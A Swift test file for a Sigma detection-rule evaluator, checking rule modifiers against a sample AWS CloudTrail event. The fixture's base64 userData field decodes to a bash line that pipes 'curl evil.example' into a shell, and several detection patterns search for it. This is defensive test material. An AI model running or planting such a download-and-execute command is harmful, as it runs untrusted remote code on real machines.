import Testing
@testable import AgentTrail

/// Each modifier and value form on records that must and must not match (the conventions in Docs/Rules.md).
@Suite struct SigmaEvaluationTests {
    static let record = """
    {"eventSource":"ec2.amazonaws.com","eventName":"AuthorizeSecurityGroupIngress","sourceIPAddress":"203.0.113.7",
     "errorCode":null,"readOnly":false,"eventVersion":"1.08","userIdentity":{"type":"AssumedRole",
     "arn":"arn:aws:sts::111122223333:assumed-role/app/i-1","sessionContext":{"sessionIssuer":{"arn":"arn:aws:iam::111122223333:role/app"}}},
     "requestParameters":{"groupId":"sg-1","ipPermissions":{"items":[{"ipProtocol":"tcp","fromPort":22,
       "ipRanges":{"items":[{"cidrIp":"10.0.0.0/8"},{"cidrIp":"0.0.0.0/0"}]}}]},
       "userData":"IyEvYmluL2Jhc2gKY3VybCBldmlsLmV4YW1wbGUgfCBzaA==","note":"say \\"hi\\"\\u0021",
       "ownerName":"app","creator":"APP","tags":["a","b"],"empty":[]},
     "responseElements":{"ConsoleLogin":"Success"},"additionalEventData":{"MFAUsed":"No"}}
    """

    @Test(arguments: [
        // Plain values, lists (OR), case-insensitive by default, `cased`.
        ("sel:\n    eventName: authorizesecuritygroupingress\ncondition: sel", true),
        ("sel:\n    eventName|cased: authorizesecuritygroupingress\ncondition: sel", false),
        ("sel:\n    eventName:\n        - RevokeSecurityGroupIngress\n        - AuthorizeSecurityGroupIngress\ncondition: sel", true),
        ("sel:\n    eventName: Authorize*\n    eventSource: ec2.amazonaws.com\ncondition: sel", true),
        ("sel:\n    eventName: Authorize*\n    eventSource: iam.amazonaws.com\ncondition: sel", false),
        // A list of maps is OR.
        ("sel:\n    - eventName: X\n    - eventSource: ec2.amazonaws.com\ncondition: sel", true),
        // Nested fields, arrays stepped into (any element).
        ("sel:\n    userIdentity.sessionContext.sessionIssuer.arn|endswith: ':role/app'\ncondition: sel", true),
        ("sel:\n    requestParameters.ipPermissions.items.ipRanges.items.cidrIp: 0.0.0.0/0\ncondition: sel", true),
        ("sel:\n    requestParameters.ipPermissions.items.ipRanges.items.cidrIp: ::/0\ncondition: sel", false),
        ("sel:\n    requestParameters.ipPermissions.items.fromPort: 22\ncondition: sel", true),
        ("sel:\n    requestParameters.tags: b\ncondition: sel", true),
        // contains / startswith / endswith / all.
        ("sel:\n    userIdentity.arn|contains: assumed-role/app\ncondition: sel", true),
        ("sel:\n    userIdentity.arn|startswith: arn:aws:iam\ncondition: sel", false),
        ("sel:\n    userIdentity.arn|contains|all:\n        - sts\n        - app\ncondition: sel", true),
        ("sel:\n    userIdentity.arn|contains|all:\n        - sts\n        - nope\ncondition: sel", false),
        // Escaped strings in the record are compared unescaped.
        ("sel:\n    requestParameters.note: 'say \"hi\"!'\ncondition: sel", true),
        // null: missing or JSON null; not an empty list.
        ("sel:\n    errorCode: null\ncondition: sel", true),
        ("sel:\n    errorMessage: null\ncondition: sel", true),
        ("sel:\n    sourceIPAddress: null\ncondition: sel", false),
        ("sel:\n    requestParameters.empty: null\ncondition: sel", false),
        // A missing field never matches a value, not even `*`.
        ("sel:\n    errorMessage: '*'\ncondition: sel", false),
        ("sel:\n    errorCode: '*'\ncondition: sel", false),
        // exists.
        ("sel:\n    errorCode|exists: true\ncondition: sel", true),
        ("sel:\n    errorMessage|exists: true\ncondition: sel", false),
        ("sel:\n    errorMessage|exists: false\ncondition: sel", true),
        // Booleans and numbers compare as their text.
        ("sel:\n    readOnly: false\ncondition: sel", true),
        ("sel:\n    readOnly: 'false'\ncondition: sel", true),
        ("sel:\n    eventVersion: 1.08\ncondition: sel", true),
        // re with flags.
        ("sel:\n    eventName|re: '^Authorize.*Ingress$'\ncondition: sel", true),
        ("sel:\n    eventName|re: '^authorize'\ncondition: sel", false),
        ("sel:\n    eventName|re|i: '^authorize'\ncondition: sel", true),
        ("sel:\n    eventName|re: 'Group'\ncondition: sel", true),
        // cidr.
        ("sel:\n    sourceIPAddress|cidr: 203.0.113.0/24\ncondition: sel", true),
        ("sel:\n    sourceIPAddress|cidr: 198.51.100.0/24\ncondition: sel", false),
        ("sel:\n    eventName|cidr: 0.0.0.0/0\ncondition: sel", false),
        // gt / gte / lt / lte (numbers and numeric strings).
        ("sel:\n    requestParameters.ipPermissions.items.fromPort|lt: 1024\ncondition: sel", true),
        ("sel:\n    requestParameters.ipPermissions.items.fromPort|gt: 22\ncondition: sel", false),
        ("sel:\n    requestParameters.ipPermissions.items.fromPort|gte: 22\ncondition: sel", true),
        ("sel:\n    eventVersion|gte: 1.05\ncondition: sel", true),
        // fieldref (case-insensitive unless cased).
        ("sel:\n    requestParameters.ownerName|fieldref: requestParameters.creator\ncondition: sel", true),
        ("sel:\n    requestParameters.ownerName|cased|fieldref: requestParameters.creator\ncondition: sel", false),
        ("sel:\n    requestParameters.ownerName|fieldref: requestParameters.groupId\ncondition: sel", false),
        // base64 / base64offset (of a value inside base64 text).
        ("sel:\n    requestParameters.userData|base64offset|contains: 'curl evil'\ncondition: sel", true),
        ("sel:\n    requestParameters.userData|base64offset|contains: 'wget'\ncondition: sel", false),
        ("sel:\n    requestParameters.userData|base64|startswith: '#!/bin/bash'\ncondition: sel", false),
        // Keywords: a whole leaf anywhere.
        ("keywords:\n    - Success\ncondition: keywords", true),
        ("keywords:\n    - '*evil*'\ncondition: keywords", false),
        // (Unquoted `No` is YAML 1.1's boolean false, as PyYAML and pySigma read it: it matches `"readOnly": false`.)
        ("keywords:\n    - No\ncondition: keywords", true),
        ("keywords:\n    - 'No'\ncondition: keywords", true),
        // Conditions over several identifiers.
        ("sel:\n    eventName: AuthorizeSecurityGroupIngress\nfilter_main_private:\n    requestParameters.ipPermissions.items.ipRanges.items.cidrIp|startswith: '10.'\ncondition: sel and not 1 of filter_main_*", false),
        ("sel:\n    eventName: AuthorizeSecurityGroupIngress\nfilter:\n    sourceIPAddress|cidr: 10.0.0.0/8\ncondition: sel and not filter", true),
        ("a:\n    additionalEventData.MFAUsed: 'No'\nb:\n    responseElements.ConsoleLogin: Success\ncondition: all of them", true),
    ] as [(String, Bool)])
    func modifiersAndValues(detection: String, expected: Bool) throws {
        #expect(try SigmaTest.matches(SigmaTest.rule(detection), Self.record) == expected, "\(detection)")
    }

    @Test func escapedKeysAndDuplicateKeysFollowJSON() throws {
        // A key written with an escape is the same key; of duplicate keys the last one counts (as Python's json).
        let record = #"{"eventSource":"s3.amazonaws.com","eventName":"GetObject","request\u0050arameters":{"bucketName":"a","bucketName":"b"}}"#
        #expect(try SigmaTest.matches(SigmaTest.rule("sel:\n    requestParameters.bucketName: b\ncondition: sel"), record))
        #expect(try !SigmaTest.matches(SigmaTest.rule("sel:\n    requestParameters.bucketName: a\ncondition: sel"), record))
    }
}
